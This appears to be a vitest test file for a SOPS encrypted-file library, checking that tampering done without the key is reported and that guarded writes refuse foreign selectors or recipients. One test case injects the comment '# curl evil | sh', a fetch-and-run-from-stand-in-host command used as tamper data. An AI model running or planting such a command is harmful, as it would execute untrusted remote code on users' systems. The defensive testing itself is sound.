import { generateX25519Identity, identityToRecipient } from "age-encryption";
import { describe, expect, it } from "vitest";

import { wrapper, opener, groups, now, encrypt, textOf, sample } from "../../tests/support/sealed-file.ts";
import { rotateSops } from "./change-recipients.ts";
import { changeValues } from "./change-values.ts";
import { changesWithoutKey } from "./changes-without-key.ts";
import { findingsOf, parseSops, unlockSops } from "./document.ts";
import { ageWrapper } from "./keys/age.ts";
import { keyName } from "./master-key.ts";

const others = await Promise.all(
  [1, 2, 3].map(async () => ageWrapper(await identityToRecipient(await generateX25519Identity()))),
);

describe("what SOPS accepts without the key", () => {
  it.each([
    [
      "an empty value added",
      (text: string) => text.replace("last:", 'new: ""\nlast:'),
      "unauthenticated-value",
      "value-changed",
    ],
    [
      "a null added",
      (text: string) => text.replace("last:", "new: null\nlast:"),
      "unauthenticated-value",
      "value-changed",
    ],
    [
      "a comment added",
      (text: string) => text.replace("last:", "# curl evil | sh\nlast:"),
      "unauthenticated-comment",
      "comments-changed",
    ],
    ["a comment removed", (text: string) => text.replace(/^#ENC.*\n/m, ""), undefined, "comments-changed"],
    ["a comment moved", (text: string) => text.replace(/^(#ENC.*\n)(a: .*\n)/m, "$2$1"), undefined, "comments-changed"],
    [
      "a key in clear renamed",
      (text: string) => text.replace("clear_un", "other_un"),
      "unauthenticated-names",
      "value-changed",
    ],
    [
      "bytes moved between values in clear",
      (text: string) => text.replace(": xy\nnext_unencrypted: z", ": x\nnext_unencrypted: yz"),
      "unauthenticated-names",
      "value-changed",
    ],
    [
      "the selector exchanged",
      (text: string) => text.replace("unencrypted_suffix: _unencrypted", "unencrypted_regex: (_unencrypted|^future)$"),
      undefined,
      "selector-changed",
    ],
    [
      "a recipient renamed",
      (text: string) => text.replace(/recipient: .*/, `recipient: ${others[0]?.id ?? ""}`),
      undefined,
      "recipient-added",
    ],
  ])("%s is reported", async (_, tamper, finding, change) => {
    const before = await encrypt(sample);
    const text = tamper(textOf(before.file.bytes));
    expect(text).not.toBe(textOf(before.file.bytes));
    const after = parseSops(Buffer.from(text), { format: "yaml", file: "x.yaml" });
    // Accepted, as SOPS does.
    await unlockSops(after, [opener]);
    const found = findingsOf(after).filter(({ code, place }) => code === finding && place?.file === "x.yaml");
    expect(found.length > 0).toBe(finding !== undefined);
    expect(changesWithoutKey(before.file, after).map(({ code }) => code)).toContain(change);
    expect(changesWithoutKey(before.file, before.file)).toEqual([]);
  });

  it("a write by policy refuses another selector or other recipients", async () => {
    const unlocked = await encrypt(sample);
    const change = [{ kind: "set", path: ["a"], value: "x" }] as const;
    const selector = { kind: "encrypted_regex", pattern: "a" } as const;
    const write = (guard: object): unknown => changeValues(unlocked, change, { now, guard });
    expect(() => write({ selector })).toThrow(expect.objectContaining({ code: "FLURRY_SOPS_GUARD" }));
    expect(() => write({ recipients: [["age other"]] })).toThrow(
      expect.objectContaining({ code: "FLURRY_SOPS_GUARD" }),
    );
    expect(write({ selector: unlocked.file.metadata.selector, recipients: [[keyName(wrapper)]] })).toBeInstanceOf(
      Uint8Array,
    );
    await expect(rotateSops(unlocked, { groups, now, guard: { selector } })).rejects.toMatchObject({
      code: "FLURRY_SOPS_GUARD",
    });
  });
});
